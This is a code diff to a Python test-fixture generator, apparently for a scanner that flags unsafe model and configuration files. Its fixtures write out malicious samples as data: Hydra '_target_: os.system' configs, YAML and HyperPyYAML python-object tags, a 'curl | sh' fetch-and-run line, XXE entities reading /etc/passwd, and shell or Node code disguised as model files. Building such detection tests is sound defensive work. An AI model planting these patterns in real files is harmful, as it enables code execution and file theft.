@@ -602,7 +602,7 @@ def hydras() -> Iterator[tuple[str, bytes]]:
         "anchor": "n: &a os.system\nx:\n  _target_: *a\n", "reference": "n: os.system\nx:\n  _target_: ${n}\n", "computed": "x:\n  _target_: ${oc.env:EXAMPLE}\n",
         "unknown-url": "x:\n  _target_: examplelib.start\n  address: http://example.com/x\n", "unknown-shell": "x:\n  _target_: examplelib.start\n  text: curl http://192.0.2.1 | sh\n",
         "unknown": "x:\n  _target_: examplelib.Thing\n", "load": "x:\n  _target_: torch.load\n  f: x.pt\n", "hub": "x:\n  _target_: torch.hub.load\n", "get-method": "x:\n  _target_: hydra.utils.get_method\n  path: os.system\n",
-        "target": "target: os.path.join.__globals__\nx: 1\n", "target-model": "target: subprocess.Popen.x\n", "class-path": "model:\n  class_path: os.system\n  init_args: {}\n", "tag": "x: !!python/object/apply:os.system ['true']\n",
+        "target": "target: os.path.join.__globals__\nx: 1\n", "target-two": "model:\n  target: os.system\n", "target-model": "target: subprocess.Popen.x\n", "class-path": "model:\n  class_path: os.system\n  init_args: {}\n", "tag": "x: !!python/object/apply:os.system ['true']\n",
         "tag-name": "x: !!python/name:os.system\n", "tag-module": "x: !!python/module:subprocess\n", "second": "a: 1\n---\nx:\n  _target_: os.system\n", "broken-behind": "x:\n  _target_: os.system\ny: [\n",
         "env": "x: ${oc.env:API_TOKEN}\n", "eval-resolver": "x: ${eval:1+1}\n", "dunder": "x:\n  _target_: torch.nn.Linear.__init__.__globals__\n", "colon": "x:\n  _target_: 'os:system'\n", "pickle": "x:\n  _target_: pickle.load\n",
     }  # fmt: skip
@@ -617,6 +617,9 @@ def hydras() -> Iterator[tuple[str, bytes]]:
             builders.tar({"model_config.yaml": configs["system"].encode(), "model_weights.ckpt": CLEAN}), mtime=0
         ),
     )
+    for form in ("new", "apply", "name"):
+        yield f"hyperpyyaml-{form}/hyperparams.yaml", f"x: !{form}:os.system ['true']\n".encode()
+    yield "hyperpyyaml-include/hyperparams.yaml", b"x: !include:../../other.yaml\n"
     yield "alone/model_config.yaml", configs["system"].encode()
     yield "zip.zip", builders.archive({"conf/config.yaml": configs["system"].encode(), "m.pkl": CLEAN})
 
@@ -624,6 +627,8 @@ def hydras() -> Iterator[tuple[str, bytes]]:
 def xmls() -> Iterator[tuple[str, bytes]]:
     pmml = '<PMML xmlns="http://www.dmg.org/PMML-4_4" version="4.4"><Header/><DataDictionary/>{}</PMML>'
     net = '<net name="m" version="11"><layers>{}</layers><edges/></net>'
+    wide = '<?xml version="1.0" encoding="utf-16"?><!DOCTYPE PMML [<!ENTITY x SYSTEM "file:///etc/passwd">]><PMML>&x;</PMML>'
+    yield "entity-wide.xml", wide.encode("utf-16")
     yield (
         "entity.pmml",
         b'<?xml version="1.0"?><!DOCTYPE PMML [<!ENTITY x SYSTEM "file:///etc/passwd">]><PMML version="4.4">&x;</PMML>',
@@ -719,6 +724,9 @@ def posers() -> Iterator[tuple[str, bytes]]:
     }  # fmt: skip
     for name, head in heads.items():
         yield name, head + bytes(200)
+    for suffix in ("rds", "msgpack", "ubj", "cbm", "mlmodel"):
+        yield f"shell-{suffix}.{suffix}", b"#!/bin/sh\necho example\n"
+    yield "node.pt", b'require("child_process").exec("true")\n'
     texts = {
         "shell.model": "#!/bin/sh\necho example\n", "python.bin": "import os\nos.system('true')\n", "python-2.bin": "from subprocess import run\nrun(['true'])\n",
         "batch.bin": "@echo off\r\necho example\r\n", "powershell.bin": "$x = 'example'\r\nInvoke-Expression $x\r\n", "script-host.bin": 'Set s = CreateObject("WScript.Shell")\r\n',
